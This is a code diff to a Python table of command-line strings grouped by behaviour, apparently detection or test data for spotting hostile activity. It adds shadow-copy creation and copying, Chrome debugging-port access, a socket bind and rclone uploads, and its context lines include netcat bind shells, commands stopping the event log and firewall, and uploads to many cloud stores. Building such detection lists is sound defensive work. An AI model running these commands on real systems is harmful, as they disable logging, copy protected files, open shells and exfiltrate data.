@@ -33,7 +33,11 @@ COMMANDS = {
     ],
     "opens_browser": [
         "q --remote-debugging-port=9222", "q --remote-debugging-pipe", "q --load-extension=c:\\q", "q --disable-web-security",
-        "q --disable-extensions-except=c:\\q",
+        "q --disable-extensions-except=c:\\q", "const b = await puppeteer.connect()", "curl http://127.0.0.1:9222/json",
+    ],
+    "copies_shadow": [
+        "vssadmin create shadow /for=C:", "wmic shadowcopy call create Volume=C:\\", "diskshadow /s c:\\q.txt", "esentutl.exe /y c:\\q /vss",
+        "(gwmi -list Win32_ShadowCopy).Create('C:\\')", "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\q c:\\q",
     ],
     "relays_printer": [
         "socat - TCP:192.0.2.1:9100", "nc -k 192.0.2.1 9100", "ncat 192.0.2.1 515", "netcat 192.0.2.1 631", "rinetd 13528",
@@ -47,7 +51,7 @@ COMMANDS = {
         "nc -lvp 4444 -e /bin/sh", "nc.exe -l -p 4444 -e cmd.exe", "netcat -l -p 4444 -c /bin/sh", "ncat -lk 4444 -e /bin/sh",
         '"c:\\q\\nc.exe" -lvp 4444 -e cmd', "ncat -l 80 --exec /bin/sh", "ncat --listen 80 --sh-exec q", "ncat -lkp 80 --exec q",
     ],
-    "listens_to_component": ["q ws://127.0.0.1:13528", "q wss://localhost:13529", "q ws://[::1]:12705"],
+    "listens_to_component": ["q ws://127.0.0.1:13528", "q wss://localhost:13529", "q ws://[::1]:12705", "s.bind(('0.0.0.0', 13528))"],
     "reads_jobs": [
         "powershell Get-PrintJob", "wmic path Win32_PrintJob", "q __InstanceCreationEvent Win32_PrintJob",
         "q __InstanceCreationEvent where a isa 'MSFT_PrintJob'", "q AddPrintProcessor", "q KeepPrintedJobs",
@@ -69,6 +73,7 @@ COMMANDS = {
         "sc delete mpssvc", "sc stop eventlog",
     ],
     "uploads": [
+        "q.exe move C:\\q\\out box:q --log-level INFO", "q --config c:\\q\\rclone.conf",
         '"c:\\q\\BaiduPCS-Go.exe" upload "a" /u', "bypy upload a", "aliyunpan upload a", "aliyundrive sync", "cloudpan189-go upload a",
         "115drive put a", "123pan upload a", "quarkpan upload a", "ossutil64.exe cp a oss://b", "coscli cp a cos://b", "coscmd upload a b",
         "obsutil cp a obs://b", "qshell sync a b", "azcopy copy a b", "gsutil -m cp a gs://b", "s3cmd put a s3://b", "aws s3 cp a s3://b",
